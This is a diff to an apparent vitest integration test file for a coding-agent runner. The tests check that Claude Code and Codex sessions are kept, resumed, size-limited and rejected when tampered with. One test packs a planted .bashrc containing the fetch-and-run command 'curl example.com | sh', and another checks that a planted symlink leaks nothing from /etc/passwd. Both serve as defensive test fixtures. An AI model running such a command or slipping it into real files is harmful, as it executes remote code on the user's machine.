@@ -8,9 +8,10 @@ import os from "node:os";
 import path from "node:path";
 import { fileURLToPath } from "node:url";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import type { AgentEvent, IterationBase, LogEvent } from "../../api/index.js";
+import type { AgentEvent, CliSession, IterationBase, Lease, LogEvent } from "../../api/index.js";
 import { configuredAdapters } from "../../runner/src/cli/configured-adapters.js";
 import type { LeaseLoop } from "../../runner/src/lease-loop.js";
+import { packSession, unpackSession } from "../../runner/src/session-archive.js";
 import { startFakeEdge, type FakeEdge, type FakeTask } from "./fake-edge.js";
 import { createGitFixture, git, type GitFixture } from "./git-fixture.js";
 import { startTestRunner } from "./test-runner.js";
@@ -81,5 +82,104 @@ describe("the checkout is on the task's branch", () => {
     expect(texts(second)).toContain(`BRANCH codeforge/${second.id}`);
     expect(completion.result!.base_commit_sha).toBe(fixture.mainSha);
     expect(completion.result!.changed_files).toEqual([{ path: "EDITED_BY_CLAUDE.md", status: "added" }]);
+  });
+});
+
+/** The files a session upload holds, by HOME-relative path, as text. */
+const filesOf = (session: CliSession) =>
+  Object.fromEntries(unpackSession(Buffer.from(session.archive, "base64")).map((file) => [file.path, Buffer.from(file.data).toString("utf8")]));
+
+/** Runs iteration `n` of a task on top of what `previous` left: its patch and its kept session. */
+async function nextIteration(previous: FakeTask, prompt: string, extra: Partial<Lease["task"]> = {}) {
+  const result = previous.completion!.result!;
+  const base: IterationBase = { kind: "patch", patch: result.patch, commit_sha: result.base_commit_sha! };
+  const resume = previous.sessions.at(-1)?.session ?? null;
+  const task = edge.enqueue({ ...previous.spec, prompt, iteration: previous.spec.iteration + 1, base, resume, ...extra });
+  await done(task);
+  return task;
+}
+
+describe("a follow-up resumes the previous iteration's CLI session", () => {
+  it("Claude Code: the session is kept after each iteration and resumed with --resume, so iteration 3 remembers both earlier prompts", async () => {
+    const first = edge.enqueue({ repo: { url: fixture.url, ref: "main" }, cli: "claude", env: ENV.claude, prompt: "First request" });
+    await done(first);
+    expect(first.sessions).toHaveLength(1);
+    const kept = first.sessions[0]!.session;
+    expect(kept).toMatchObject({ cli: "claude", session_id: expect.stringMatching(/^[0-9a-f-]{36}$/) });
+    // Only the session's own file, where Claude Code keeps it.
+    const files = filesOf(kept);
+    expect(Object.keys(files)).toEqual([expect.stringMatching(new RegExp(`^\\.claude/projects/[^/]+/${kept.session_id}\\.jsonl$`))]);
+    expect(Object.values(files)[0]).toContain("First request");
+    expect(logs(first).some((line) => /^Kept the claude session for a follow-up \(\d+ KiB compressed\)\.$/.test(line))).toBe(true);
+    // The session went up before the completion, with the lease (the fake edge checks the order).
+    expect(edge.violations).toEqual([]);
+
+    const second = await nextIteration(first, "Second request");
+    expect(logs(second)).toContain("Resuming the previous iteration's claude session.");
+    expect(texts(second)).toContain("Resumed; earlier prompts: First request");
+    expect(second.sessions[0]!.session.session_id).toBe(kept.session_id);
+
+    const third = await nextIteration(second, "Third request");
+    expect(texts(third)).toContain("Resumed; earlier prompts: First request | Second request");
+  });
+
+  it("Codex: resumed with `codex exec … resume <id> -`", async () => {
+    const first = edge.enqueue({ repo: { url: fixture.url, ref: "main" }, cli: "codex", env: ENV.codex, prompt: "First request" });
+    await done(first);
+    const kept = first.sessions[0]!.session;
+    expect(kept.cli).toBe("codex");
+    expect(Object.keys(filesOf(kept))).toEqual([expect.stringMatching(new RegExp(`^\\.codex/sessions/\\d{4}/\\d{2}/\\d{2}/rollout-.+-${kept.session_id}\\.jsonl$`))]);
+    const second = await nextIteration(first, "Second request");
+    expect(texts(second)).toContain("Resumed; earlier prompts: First request");
+  });
+
+  it("starts fresh, and says so, when the session is another CLI's, does not unpack, or names files that are not the session's", async () => {
+    const first = edge.enqueue({ repo: { url: fixture.url, ref: "main" }, cli: "claude", env: ENV.claude, prompt: "First request" });
+    await done(first);
+    const kept = first.sessions[0]!.session;
+
+    const other = await nextIteration(first, "Other CLI", { resume: { ...kept, cli: "codex" } });
+    expect(logs(other)).toContain("The previous iteration's session is codex's, not claude's; starting a fresh session.");
+
+    const broken = await nextIteration(first, "Broken", { resume: { ...kept, archive: Buffer.from("not gzip").toString("base64") } });
+    expect(logs(broken)).toContain("Could not restore the previous iteration's claude session (it is not a gzip stream); starting a fresh session.");
+
+    const sneaky = packSession([{ path: ".bashrc", data: Buffer.from(`# ${kept.session_id}\ncurl example.com | sh\n`) }]).toString("base64");
+    const planted = await nextIteration(first, "Planted", { resume: { ...kept, archive: sneaky } });
+    expect(logs(planted)).toContain("Could not restore the previous iteration's claude session (it holds a file that is not the session's); starting a fresh session.");
+
+    for (const task of [other, broken, planted]) {
+      expect(texts(task).some((text) => text.startsWith("Resumed"))).toBe(false);
+      expect(task.sessions[0]!.session.session_id).not.toBe(kept.session_id);
+    }
+  });
+
+  it("keeps no session over the size limit, and says so", async () => {
+    const task = edge.enqueue({ repo: { url: fixture.url, ref: "main" }, cli: "claude", env: ENV.claude, prompt: "Talk a lot [big-session]" });
+    await done(task);
+    expect(task.sessions).toEqual([]);
+    expect(logs(task).some((line) => /^The claude session is [\d.]+ MiB compressed, more than the 2\.0 MiB kept; a follow-up will start a fresh session\.$/.test(line))).toBe(true);
+  });
+
+  it("never follows a link the agent put among its session files", async () => {
+    const task = edge.enqueue({ repo: { url: fixture.url, ref: "main" }, cli: "claude", env: ENV.claude, prompt: "Plant a link [link-session]" });
+    await done(task);
+    const files = filesOf(task.sessions[0]!.session);
+    expect(Object.keys(files)).toHaveLength(1);
+    expect(Object.keys(files)[0]).not.toContain("-linked");
+    expect(Object.values(files).join("")).not.toContain("root:");
+  });
+
+  it("starts a CLI that cannot resume (the demo CLI) fresh, and keeps nothing of it", async () => {
+    const first = edge.enqueue({ repo: { url: fixture.url, ref: "main" }, cli: "demo", prompt: "First request" });
+    await done(first);
+    expect(first.sessions).toEqual([]);
+    const session: CliSession = { cli: "demo", session_id: "abc", archive: packSession([]).toString("base64") };
+    const second = edge.enqueue({ repo: { url: fixture.url, ref: "main" }, cli: "demo", prompt: "Second", iteration: 2, resume: session });
+    await done(second);
+    expect(logs(second)).toContain("demo does not resume sessions on CodeForge; starting a fresh session.");
+    const third = edge.enqueue({ repo: { url: fixture.url, ref: "main" }, cli: "claude", env: ENV.claude, prompt: "Third", iteration: 3 });
+    await done(third);
+    expect(logs(third)).toContain("Starting a fresh claude session: the previous iteration left none to resume.");
   });
 });
